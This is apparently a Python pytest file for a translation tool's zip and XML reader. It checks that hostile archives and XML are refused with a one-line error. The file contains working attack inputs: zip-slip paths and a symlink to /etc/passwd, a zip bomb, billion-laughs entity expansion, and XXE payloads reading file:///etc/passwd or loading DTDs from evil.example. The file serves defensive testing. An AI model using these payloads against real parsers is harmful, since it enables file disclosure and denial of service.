"""Zip files from outside: every hostile one is refused in one line, before it can do harm."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
from collections.abc import Callable

import pytest

from translate_flow.archives import Limits
from translate_flow.errors import InputError, LimitError
from translate_flow.reading.zipped import open_zip, pack, xml

SMALL = Limits(members=5, entry=300_000, total=500_000, ratio=120, free=1_000)


def zipped(*members: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def special(name: str, mode: int) -> zipfile.ZipInfo:
    member = zipfile.ZipInfo(name)
    member.external_attr = mode << 16
    return member


def noise(size: int) -> bytes:
    return bytes((n * 7919 + n * n // 3) % 251 for n in range(size))


def patched(data: bytes, change: Callable[[bytearray, int, int], None]) -> bytes:
    """The zip with its first local header and central entry changed."""
    content = bytearray(data)
    change(content, content.index(b"PK\x03\x04"), content.index(b"PK\x01\x02"))
    return bytes(content)


def encrypt(content: bytearray, local: int, central: int) -> None:
    content[local + 6] |= 1
    content[central + 8] |= 1


def understate(content: bytearray, local: int, central: int) -> None:
    struct.pack_into("<I", content, local + 22, 10)
    struct.pack_into("<I", content, central + 24, 10)


def odd_method(content: bytearray, local: int, central: int) -> None:
    struct.pack_into("<H", content, local + 8, 99)
    struct.pack_into("<H", content, central + 10, 99)


def spoil(content: bytearray, local: int, _central: int) -> None:
    content[local + 40] ^= 0xFF


def _twice(name: str, again: str) -> bytes:
    other = "z" * len(again)
    return zipped((name, b"a"), (other, b"b")).replace(other.encode(), again.encode())


HOSTILE = [
    ("../evil.xml", zipped(("../evil.xml", b"x")), InputError, "outside"),
    ("a/../../evil.xml", zipped(("a/../../evil.xml", b"x")), InputError, "outside"),
    ("/etc/evil", zipped(("/etc/evil", b"x")), InputError, "outside"),
    ("backslash", zipped(("z:evil", b"x")).replace(b"z:evil", b"..\\evi"), InputError, "unsafe"),
    ("drive", zipped(("C:evil", b"x")), InputError, "unsafe"),
    ("symlink", zipped((special("link", stat.S_IFLNK | 0o777), b"/etc/passwd")), InputError, "link"),
    ("device", zipped((special("dev", stat.S_IFCHR | 0o666), b"")), InputError, "device"),
    ("fifo", zipped((special("pipe", stat.S_IFIFO | 0o666), b"")), InputError, "device"),
    ("twice", _twice("word.xml", "word.xml"), InputError, "twice"),
    ("twice but for case", _twice("word.xml", "WORD.xml"), InputError, "twice"),
    ("encrypted", patched(zipped(("a.xml", b"x" * 99)), encrypt), InputError, "encrypted"),
    ("too many", zipped(*((f"{n}.xml", b"x") for n in range(6))), LimitError, "6 members"),
    ("one too large", zipped(("a.xml", noise(300_001))), LimitError, "more than"),
    ("all too large", zipped(*((f"{n}.xml", noise(200_000)) for n in range(3))), LimitError, "more than"),
    ("bomb", zipped(("a.xml", b"\0" * 290_000)), LimitError, "more than"),
    ("understated size", patched(zipped(("a.xml", noise(5_000))), understate), InputError, "zip"),
    ("unknown method", patched(zipped(("a.xml", noise(500))), odd_method), InputError, "zip"),
    ("spoilt data", patched(zipped(("a.xml", noise(5_000))), spoil), InputError, "zip"),
    ("truncated", zipped(("a.xml", noise(5_000)))[:-30], InputError, "zip"),
    ("cut in half", zipped(("a.xml", noise(5_000)))[:400], InputError, "zip"),
    ("empty", b"", InputError, "zip"),
    ("no zip", b"PK but no zip", InputError, "zip"),
]


@pytest.mark.parametrize(("data", "error", "says"), [case[1:] for case in HOSTILE], ids=[case[0] for case in HOSTILE])
def test_a_hostile_zip_is_refused_in_one_line(data: bytes, error: type[InputError], says: str) -> None:
    with pytest.raises(error, match=says) as caught:
        open_zip(data, name="evil.docx", limits=SMALL)
    assert str(caught.value).startswith("evil.docx: ")
    assert "\n" not in str(caught.value)
    assert "again" in str(caught.value)


def test_members_come_in_the_order_of_the_file_and_folders_do_not() -> None:
    assert list(open_zip(zipped(("b.xml", b"1"), ("folder/", b""), ("a.xml", b"2")), name="x")) == ["b.xml", "a.xml"]


def test_what_is_not_wanted_is_never_unpacked() -> None:
    data = zipped(("a.xml", b"text"), ("bomb.bin", b"\0" * 290_000))
    assert open_zip(data, name="x", limits=SMALL, wanted=lambda part: part.endswith(".xml")) == {"a.xml": b"text"}


def test_a_packed_zip_holds_the_checked_bytes() -> None:
    assert open_zip(pack({"a": b"1", "b/c": b"2"}), name="x") == {"a": b"1", "b/c": b"2"}


LAUGHS = "<!DOCTYPE a [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 10}'>" for n in range(9)) + "]>"


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (f"{LAUGHS}<a>&a9;</a>".encode(), "entity amplification"),
        (f"{LAUGHS}<a/>".encode("utf-16"), "entities"),
        (b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", "entities"),
        (b"<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.example/x'> %x;]><a/>", "entities"),
        (b"<!DOCTYPE a SYSTEM 'http://evil.example/x.dtd'><a/>", "document type"),
        (b"<!DOCTYPE a><a/>", "document type"),
        (b"<a><b></a>", "damaged"),
        (b"", "damaged"),
        (b"\x00\x01", "damaged"),
        (b"<a>" * 400 + b"</a>" * 400, "damaged"),
        (b"<a b='" + b"x" * 11_000_000 + b"'/>", "damaged"),
    ],
)
def test_hostile_xml_is_refused_in_one_line(data: bytes, says: str) -> None:
    with pytest.raises(InputError, match=says) as caught:
        xml(data, name="evil.odt", part="content.xml")
    assert str(caught.value).startswith("evil.odt: content.xml ")
    assert "\n" not in str(caught.value)


def test_a_bare_document_type_is_taken_where_it_is_usual_but_entities_never() -> None:
    bare = b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd"><html/>'
    assert xml(bare, name="x", part="a.xhtml", doctype=True).tag == "html"
    with pytest.raises(InputError, match="entities"):
        xml(f"{LAUGHS}<a/>".encode(), name="x", part="a.xhtml", doctype=True)
